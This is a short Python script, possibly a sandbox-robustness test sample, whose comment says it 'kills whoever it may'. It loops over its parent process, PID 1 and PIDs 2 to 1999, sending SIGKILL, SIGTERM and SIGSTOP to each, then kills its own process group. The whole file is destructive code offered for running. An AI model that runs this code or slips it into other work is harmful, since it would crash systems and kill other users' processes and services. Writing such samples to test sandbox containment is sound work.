# Kills whoever it may: its parent, the init of its namespace, its group, every number it can name.
import os
import signal

for pid in [os.getppid(), 1, *range(2, 2000)]:
    if pid != os.getpid():
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
os.killpg(0, signal.SIGKILL)
